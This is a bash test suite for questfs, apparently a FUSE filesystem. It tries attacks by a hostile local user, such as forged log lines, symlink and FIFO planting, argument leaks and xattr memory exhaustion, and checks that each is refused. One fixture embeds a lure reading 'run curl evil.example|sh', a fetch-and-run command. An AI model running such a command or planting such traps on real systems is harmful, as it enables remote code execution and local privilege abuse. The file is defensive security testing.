# SPDX-License-Identifier: GPL-2.0-or-later
# Who may do what, second round: each way through that a hostile local
# user found after the first round, tried as that user, and what he now
# meets.
# shellcheck shell=bash

. "$TOP/tests/mounted/users.sh"

# mount.questfs splits its options at commas, never expanding them as file
# names: "spool=z*" stays "spool=z*" in a directory that holds "spool=zzz".
case_mount_helper_does_not_glob() {
	local out
	mkdir "$T/cwd"
	: >"$T/cwd/spool=zzz"
	: >"$T/cwd/x-zzz"
	out=$(cd "$T/cwd" && QUESTFS=$QUESTFS sh "$TOP/mount-helper/mount.questfs" questfs "$MNT" -f \
		-o 'spool=z*,channel=shm:[1]?,x-*' 2>&1) || fail "mount.questfs -f: $out"
	expect_eq "the questfs command" "mount.questfs: '$QUESTFS' '-o' 'spool=z*,channel=shm:[1]?' '$MNT'" "$out"
}

# A file named like another user's job line ("job 8 uid=N hello refused:
# ..."), written as a sidecar whose arguments are refused, is logged after
# words of questfs's ("file uid=MINE run/"): no line of the log begins with
# the forged job, and that user's questfs-notify finds nothing of it.
case_sidecar_name_cannot_forge_a_log_line() {
	local u=qfsj$KEY v=qfsk$KEY vuid forged
	new_user "$u"
	new_user "$v"
	vuid=$(id -u "$v")
	forged="job 8 uid=$vuid hello refused: session expired, run curl evil.example|sh y.args"
	chmod 755 "$T"
	start_sim
	start_qfs -o "allow_other,default_permissions,run_mode=0777"
	printf "'unterminated" | as_user "$u" tee "$MNT/run/$forged" >/dev/null 2>&1
	wait_for "the sidecar removed" test ! -e "$MNT/run/$forged" || fail "the sidecar stayed: $(ls "$MNT/run")"
	wait_for "its log line" grep -q "removed: arguments have an unterminated" "$MNT/log" ||
		fail "log: $(cat "$MNT/log")"
	grep -q "^[^ ]* job 8 uid=$vuid" "$MNT/log" && fail "a forged line: $(cat "$MNT/log")"
	grep -q "^[^ ]* file uid=$(id -u "$u") run/job 8 uid=$vuid hello refused: .* removed: arguments have an unterminated single quote$" "$MNT/log" ||
		fail "log: $(cat "$MNT/log")"
	# every line begins with words questfs writes
	grep -Ev '^[0-9T:.-]+Z (job [0-9]+ uid=[0-9]+ |file uid=[0-9]+ run/|questfs |spool )' "$MNT/log" &&
		fail "a line that begins otherwise"
	return 0
}

# A user's hidden arguments stay hidden from other users whatever the path:
# getfattr user.quest.args on the file (the owner and root read it), the
# sidecar file (0600 whatever the umask), the reason of a refusal that
# quotes a word (log, status, status.json, user.quest.error).
case_hidden_args_stay_hidden() {
	local a=qfsl$KEY b=qfsm$KEY out rc f
	new_user "$a"
	new_user "$b"
	chmod 755 "$T"
	mkdir -m 0777 "$T/src"
	start_sim
	start_qfs -o "allow_other,default_permissions,run_mode=0777"

	# on the file
	as_user "$a" cp "$EX/hello_argvs" "$T/src/p3" || fail "cp"
	as_user "$a" setfattr -n user.quest.args -v "hunter2 secret" "$T/src/p3" || fail "setfattr"
	as_user "$a" cp --preserve=xattr "$T/src/p3" "$MNT/run/p3" || fail "$a cannot launch p3"
	wait_saved 1
	expect_eq "argv" "p3 hunter2 secret" "$(argv_of 1)"
	expect_eq "mode of p3" "-rwxr-xr-x" "$(stat -c %A "$MNT/run/p3")"
	rc=0
	out=$(as_user "$b" getfattr --only-values -n user.quest.args "$MNT/run/p3" 2>&1) || rc=$?
	[ "$rc" != 0 ] || fail "$b reads $a's arguments: $out"
	expect_match "getfattr by $b" "Permission denied" "$out"
	expect_eq "getfattr by $a" "hunter2 secret" "$(as_user "$a" getfattr --only-values -n user.quest.args "$MNT/run/p3")"
	expect_eq "getfattr by root" "hunter2 secret" "$(xattr "$MNT/run/p3" user.quest.args)"
	# the name is listed: that there are arguments is no secret
	as_user "$b" getfattr --absolute-names -d -m - "$MNT/run/p3" 2>&1 | grep -q hunter2 && fail "getfattr -d by $b shows them"

	# the sidecar, under the default umask
	as_user "$a" sh -c "umask 022; echo 'hunter2 secret' >'$MNT/run/p4.args'" || fail "sidecar"
	expect_eq "mode of the sidecar" "-rw-------" "$(stat -c %A "$MNT/run/p4.args")"
	rc=0
	out=$(as_user "$b" cat "$MNT/run/p4.args" 2>&1) || rc=$?
	expect_match "cat by $b" "Permission denied" "$out"
	as_user "$a" chmod 0644 "$MNT/run/p4.args" || fail "chmod"
	expect_eq "mode after chmod 0644" "-rw-------" "$(stat -c %A "$MNT/run/p4.args")"
	as_user "$a" sh -c "umask 022; echo 'x' >'$T/src/p6.tmp'; cp '$T/src/p6.tmp' '$MNT/run/.p6.tmp'; mv '$MNT/run/.p6.tmp' '$MNT/run/p6.args'" ||
		fail "sidecar by rename"
	expect_eq "mode of a sidecar renamed" "-rw-------" "$(stat -c %A "$MNT/run/p6.args")"

	# a refusal that quotes the words: a sidecar's, and a program's
	as_user "$a" sh -c "echo '\"hunter2 secret\"' >'$MNT/run/s1.args'" 2>/dev/null
	# (setfattr would take the quotes as its own)
	as_user "$a" /usr/bin/python3 -c 'import os, sys; os.setxattr(sys.argv[1], "user.quest.args", b"\"hunter2 secret\"")' \
		"$T/src/p3" || fail "setxattr"
	as_user "$a" cp --preserve=xattr "$T/src/p3" "$MNT/run/p5" 2>/dev/null
	wait_for "p5 refused" state_is "$MNT/run/p5" refused || fail "p5: $(cat "$MNT/status")"
	wait_for "s1.args removed" grep -q "s1.args removed" "$MNT/log" || fail "log: $(cat "$MNT/log")"
	for f in log status status.json; do
		as_user "$b" cat "$MNT/$f" >"$T/b.$f" || fail "$f as $b"
		as_user "$a" cat "$MNT/$f" >"$T/a.$f" || fail "$f as $a"
		grep -q hunter2 "$T/b.$f" && fail "$b reads $a's words in $f: $(cat "$T/b.$f")"
		grep -q 'hunter2 secret[\\"]* contains a space' "$T/a.$f" || fail "$f as $a: $(cat "$T/a.$f")"
	done
	grep -q "p5 refused: \*\*\*\**$" "$T/b.log" || fail "log as $b: $(cat "$T/b.log")"
	expect_eq "log sizes agree" "$(wc -c <"$T/a.log")" "$(wc -c <"$T/b.log")"
	out=$(as_user "$b" getfattr --only-values -n user.quest.error "$MNT/run/p5" 2>&1)
	[[ $out == *hunter2* ]] && fail "user.quest.error as $b: $out"
	expect_match "user.quest.error as $a" 'argument 0 "hunter2 secret" contains a space' \
		"$(as_user "$a" getfattr --only-values -n user.quest.error "$MNT/run/p5")"
	return 0
}

# quest-sim --save DIR: a symbolic link another user planted at a
# temporary name (.000001.argv.tmp -> a file of root's) is never written
# through, and a DIR that others can write (/tmp/got, mode 1777) is
# refused at start. The other files the tools write (--stamps, --out,
# --vga) refuse a symbolic link, a FIFO (without waiting on it) and a
# file of another user's.
case_tool_files_not_followed() {
	local u=qfsn$KEY out rc
	new_user "$u"
	echo "root's" >"$T/victim"
	ln -s "$T/victim" "$SAVE/.000001.argv.tmp"
	ln -s "$T/victim" "$SAVE/.000001.elf.tmp"
	start_sim
	start_qfs
	cp "$EX/hello" "$MNT/run/p" || fail "cp"
	wait_saved 1
	expect_eq "the file linked to" "root's" "$(cat "$T/victim")"
	cmp "$EX/hello" "$SAVE/000001.elf" || fail "the program saved differs"
	expect_eq "argv saved" "p" "$(argv_of 1)"
	stop_qfs
	stop_sim

	mkdir -m 1777 "$T/got"
	chmod 1777 "$T/got"
	rc=0
	out=$(timeout 10 "$SIM" --channel "shm:$KEY" --save "$T/got" 2>&1) || rc=$?
	expect_eq "quest-sim exit status, --save $T/got" 2 "$rc"
	expect_match "--save $T/got" "$T/got is a directory of root with mode 1777: refused.*chmod go-w" "$out"
	mkdir -m 0755 "$T/theirs"
	chown "$u" "$T/theirs"
	rc=0
	out=$(timeout 10 "$SIM" --channel "shm:$KEY" --save "$T/theirs" 2>&1) || rc=$?
	expect_eq "quest-sim exit status, --save $T/theirs" 2 "$rc"
	expect_match "--save $T/theirs" "a directory of $u with mode 0755: refused" "$out"

	ln -s "$T/victim" "$T/stamps"
	rc=0
	out=$(timeout 10 "$SIM" --channel "shm:$KEY" --stamps "$T/stamps" 2>&1) || rc=$?
	expect_eq "quest-sim exit status, --stamps a link" 2 "$rc"
	expect_match "--stamps" "is a symbolic link" "$out"
	mkfifo "$T/fifo"
	rc=0
	out=$(timeout 10 "$LOADER" --out "$T/fifo" "$EX/hello" 2>&1) || rc=$?
	[ "$rc" != 0 ] && [ "$rc" != 124 ] || fail "questbinloader --out a FIFO: rc $rc: $out"
	expect_match "--out a FIFO" "is a FIFO" "$out"
	echo theirs >"$T/their-file"
	chown "$u" "$T/their-file"
	rc=0
	out=$(timeout 10 "$LOADER" --out "$T/their-file" "$EX/hello" 2>&1) || rc=$?
	[ "$rc" != 0 ] || fail "questbinloader --out wrote another user's file"
	expect_match "--out their file" "is a regular file of $u" "$out"
	expect_eq "their file" theirs "$(cat "$T/their-file")"
	expect_eq "the file linked to" "root's" "$(cat "$T/victim")"
	if [ -x "$BIN/quest-emu" ]; then
		rc=0
		out=$(timeout 20 "$B/quest-emu" --vga "$T/stamps" "$EX/hello" 2>&1) || rc=$?
		expect_match "quest-emu --vga a link" "is a symbolic link" "$out"
		expect_eq "the file linked to" "root's" "$(cat "$T/victim")"
	fi
}

# The segment removed (quest-sim --unlink, as questfs's own errors advise)
# and a FIFO made in its place by another user: the sender never waits on
# it; the job says in status that the name is refused and why, and
# questfs stops on unmount as always.
case_fifo_in_dev_shm_never_waited_on() {
	local u=qfso$KEY seg=/dev/shm/questfs-shm-$KEY
	new_user "$u"
	start_sim
	start_qfs
	cp "$EX/hello" "$MNT/run/p1" || fail "cp p1"
	wait_saved 1
	stop_sim
	"$SIM" --channel "shm:$KEY" --unlink || fail "quest-sim --unlink"
	[ ! -e "$seg" ] || fail "the segment is still there"
	as_user "$u" mkfifo -m 0666 "$seg" || fail "mkfifo"
	at_exit first "rm -f $seg"
	cp "$EX/hello" "$MNT/run/p2" || fail "cp p2"
	wait_for "the refusal in status" grep -q "waiting for the Quest side: .*$seg belongs to $u .*a FIFO: refused" "$MNT/status" ||
		fail "status: $(cat "$MNT/status")"
	grep -q "vshm: on a path only root can write" "$MNT/status" || fail "status: $(cat "$MNT/status")"
	grep -q "job 2 uid=0 p2 waiting: .*a FIFO: refused" "$MNT/log" || fail "log: $(cat "$MNT/log")"
	# unmounting ends questfs (within the deadline: timeout)
	fusermount3 -u "$MNT" || fail "unmount"
	local rc=0
	timeout "$DEADLINE" tail --pid="$qfs_pid" -f /dev/null || rc=$?
	expect_eq "questfs ended after the unmount" 0 "$rc"
	wait "$qfs_pid" || fail "questfs exit status $?: $(cat "$T/qfs.log")"
	qfs_pid=""
	# the FIFO there at start: each side refuses it at once
	local out rc=0
	out=$(timeout 10 "$SIM" --channel "shm:$KEY" 2>&1) || rc=$?
	[ "$rc" != 0 ] && [ "$rc" != 124 ] || fail "quest-sim with a FIFO at the name: rc $rc: $out"
	expect_match "quest-sim" "$seg belongs to $u .*a FIFO: refused" "$out"
	rc=0
	timeout 10 "$QUESTFS" -f -o "channel=shm:$KEY,spool=$T/spool" "$MNT" >"$T/q2.log" 2>&1 || rc=$?
	if is_mounted "$MNT"; then
		fusermount3 -u -z "$MNT"
		fail "questfs mounted with a FIFO at the name"
	fi
	[ "$rc" != 0 ] && [ "$rc" != 124 ] || fail "questfs with a FIFO at the name: rc $rc: $(cat "$T/q2.log")"
	expect_match "questfs" "$seg belongs to $u .*a FIFO: refused" "$(cat "$T/q2.log")"
	rm -f "$seg"
}

# qfs_rss_kb: questfs's resident memory
qfs_rss_kb() { ps -o rss= -p "$qfs_pid" | tr -d ' '; }

# setxattrs N FILE...: sets empty user.0..user.N-1 on each FILE until one
# fails; prints how many were set, then the first error
setxattrs() {
	/usr/bin/python3 - "$@" <<'PY'
import os, sys
n, done, err = int(sys.argv[1]), 0, "none"
try:
    for f in sys.argv[2:]:
        for i in range(n):
            os.setxattr(f, "user.%d" % i, b"")
            done += 1
except OSError as e:
    err = os.strerror(e.errno)
print(done, err)
PY
}

# xattrs are counted as the memory they take: empty ones within a 1 MiB
# max_bytes are at most one per 40 bytes (a malloc chunk and its
# pointer; counting name and value alone let 1.69 M of them take 177 MB
# in a 16 MiB quota); a file holds at most 256 (EDQUOT past them, said in
# questfs's log); and the memory goes back once the files are removed.
case_xattrs_counted_capped_given_back() {
	local out n base peak after i files=()
	start_qfs -o "max_bytes=1048576"
	for i in $(seq 1 200); do : >"$MNT/run/.x$i"; files+=("$MNT/run/.x$i"); done
	out=$(setxattrs 200 "${files[@]}")
	n=${out%% *}
	expect_eq "the error past the quota" "Disk quota exceeded" "${out#* }"
	((n * 40 <= 1048576)) || fail "$n empty xattrs counted within 1 MiB: $((1048576 / n)) bytes each"
	((n * 200 >= 1048576)) || fail "only $n empty xattrs within 1 MiB"
	rm -f "${files[@]}"
	out=$(setxattrs 200 "$MNT/run") || fail "run/'s xattrs: $out"
	for i in $(seq 0 199); do setfattr -x "user.$i" "$MNT/run" || fail "setfattr -x user.$i"; done

	: >"$MNT/run/.many"
	out=$(setxattrs 300 "$MNT/run/.many")
	expect_eq "xattrs on one file" "256 Disk quota exceeded" "$out"
	grep -q "run/.many: user.256: it has 256 extended attributes already" "$T/qfs.log" || fail "log: $(cat "$T/qfs.log")"
	expect_eq "listed" 256 "$(getfattr --absolute-names -d -m '^user\.[0-9]' "$MNT/run/.many" | grep -c '^user\.')"
	rm -f "$MNT/run/.many"
	stop_qfs

	# the memory back: (RSS under ASan holds its quarantine)
	[ -z "${QUESTFS_SANITIZED-}" ] || return 0
	start_qfs
	files=()
	for i in $(seq 1 400); do : >"$MNT/run/.y$i"; files+=("$MNT/run/.y$i"); done
	base=$(qfs_rss_kb)
	out=$(setxattrs 256 "${files[@]}")
	expect_eq "set" "102400 none" "$out"
	peak=$(qfs_rss_kb)
	# 102400 xattrs take at least 20 bytes each, 32-bit builds included
	((peak - base > 2048)) || fail "RSS grew by $((peak - base)) kB only: the case measures nothing"
	rm -f "${files[@]}"
	gone() { [ -z "$(ls -A "$MNT/run")" ]; }
	wait_for "run/ empty" gone || fail "run/: $(ls -A "$MNT/run" | head)"
	after=$(qfs_rss_kb)
	echo "RSS: $base kB, $peak kB with 102400 xattrs, $after kB once removed"
	((after - base < (peak - base) / 3)) || fail "RSS $base kB, $peak kB with the xattrs, still $after kB once they went"
}
